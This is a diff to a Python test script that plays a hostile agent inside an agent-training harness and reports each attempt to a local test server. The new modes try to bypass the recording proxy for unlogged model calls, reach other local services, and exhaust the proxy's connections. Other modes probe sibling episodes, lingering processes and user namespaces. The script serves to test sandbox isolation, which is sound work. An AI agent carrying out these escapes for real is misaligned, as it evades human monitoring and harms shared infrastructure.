@@ -2,16 +2,19 @@
 
 ``python harness_attacker.py MODE ACCOMPLICE_URL [ARG]`` tries one attack of issue 30's
 finding 6 and reports what it tried and what it saw to the accomplice (an HTTP server the
-test runs on 127.0.0.1: the harness shares the host's loopback network), then prints a final
-message. Modes: ``env``, ``siblings``, ``tools``, ``weight``, ``survivor``, ``linger``,
-``rundir``, ``userns``, ``regen``. Every attempt is caught: the report says what failed and how.
+test runs on a unix socket, ``ACCOMPLICE_URL`` its path: the harness has no network but its
+own endpoints), then prints a final message. Modes: ``env``, ``siblings``, ``tools``,
+``weight``, ``survivor``, ``linger``, ``rundir``, ``userns``, ``regen``, ``loopback``. Every
+attempt is caught: the report says what failed and how.
 """
 
 from __future__ import annotations
 
 import glob
+import http.client as httpclient
 import json
 import os
+import socket
 import subprocess
 import sys
 import time
@@ -40,8 +43,31 @@ def http(method: str, url: str, body: Any = None, token: str | None = None) -> t
         return -1, f"{type(err).__name__}: {err}"
 
 
+class UnixHTTPConnection(httpclient.HTTPConnection):
+    def __init__(self, path: str) -> None:
+        super().__init__("localhost", timeout=20)
+        self.path = path
+
+    def connect(self) -> None:
+        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.sock.settimeout(20)
+        self.sock.connect(self.path)
+
+
+def accomplice(method: str, route: str, body: Any = None) -> tuple[int, str]:
+    """An HTTP request to the accomplice's unix socket."""
+    try:
+        conn = UnixHTTPConnection(ACCOMPLICE)
+        data = None if body is None else json.dumps(body).encode()
+        conn.request(method, route, body=data, headers={"Content-Type": "application/json"})
+        r = conn.getresponse()
+        return r.status, r.read().decode(errors="replace")[:2000]
+    except OSError as err:
+        return -1, f"{type(err).__name__}: {err}"
+
+
 def report() -> None:
-    http("POST", f"{ACCOMPLICE}/report", SEEN)
+    accomplice("POST", "/report", SEEN)
 
 
 def context() -> dict[str, Any]:
@@ -118,11 +144,11 @@ def attack_tools() -> None:
     ctx = context()
     me = ctx.get("episode_id") or str(os.getpid())
     mine = {"mcp_url": os.environ.get("GYMFORGE_MCP_URL"), "base_url": ctx.get("base_url")}
-    http("PUT", f"{ACCOMPLICE}/board/{me}", mine)
+    accomplice("PUT", f"/board/{me}", mine)
     sibling: dict[str, Any] = {}
     deadline = time.monotonic() + 10
     while time.monotonic() < deadline and not sibling:
-        _, text = http("GET", f"{ACCOMPLICE}/board")
+        _, text = accomplice("GET", "/board")
         board = json.loads(text) if text.startswith("{") else {}
         sibling = next((v for k, v in board.items() if k != me), {})
         time.sleep(0.1)
@@ -236,7 +262,53 @@ def attack_regen() -> None:
         print(r.stdout.strip())
 
 
+def attack_loopback() -> None:
+    """Bypass the proxy: POST a chat request straight to each URL in ``ARG`` (the inference
+    server behind the proxy: an unrecorded model call; any service on the host's loopback,
+    a local Redis or database). Then the own proxy URL, which must still work."""
+    model = os.environ.get("GYMFORGE_MODEL", "m")
+    chat = {"model": model, "messages": [{"role": "user", "content": "hi"}]}
+    SEEN["reached"] = {url: http("POST", url, chat) for url in ARG.split(",") if url}
+    base = os.environ.get("OPENAI_BASE_URL", "")
+    token = os.environ.get("OPENAI_API_KEY")
+    SEEN["own_proxy"] = http("POST", f"{base}/chat/completions", chat, token)
+
+
+def attack_hold() -> None:
+    """Open ``ARG`` connections to its own proxy through the relay and hold each one, a
+    request never finished, then report while holding them (the accomplice counts the
+    runner's open files at that moment)."""
+    from urllib.parse import urlsplit
+
+    url = urlsplit(os.environ.get("OPENAI_BASE_URL", ""))
+    held, failed = [], 0
+    for _ in range(int(ARG)):
+        try:
+            s = socket.create_connection((url.hostname, url.port), timeout=5)
+            s.sendall(b"POST /health HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n")
+            held.append(s)
+        except OSError:
+            failed += 1
+    time.sleep(1.0)  # let the relay make its upstream connections
+    alive = 0
+    for s in held:
+        s.setblocking(False)
+        try:
+            alive += s.recv(1) != b""  # closed by the relay: b""
+        except BlockingIOError:
+            alive += 1  # still open, nothing to read
+        except OSError:
+            pass
+    SEEN["held"], SEEN["alive"], SEEN["failed"] = len(held), alive, failed
+    report()
+    SEEN["reported"] = True
+    for s in held:
+        s.close()
+
+
 ATTACKS = {
+    "hold": attack_hold,
+    "loopback": attack_loopback,
     "env": attack_env,
     "siblings": attack_siblings,
     "tools": attack_tools,
@@ -253,5 +325,6 @@ if __name__ == "__main__":
         ATTACKS[MODE]()
     except Exception as err:  # the report says how the attack itself fell over
         SEEN["crashed"] = f"{type(err).__name__}: {err}"
-    report()
+    if not SEEN.get("reported"):
+        report()
     print(f"attack {MODE} done", file=sys.stderr)
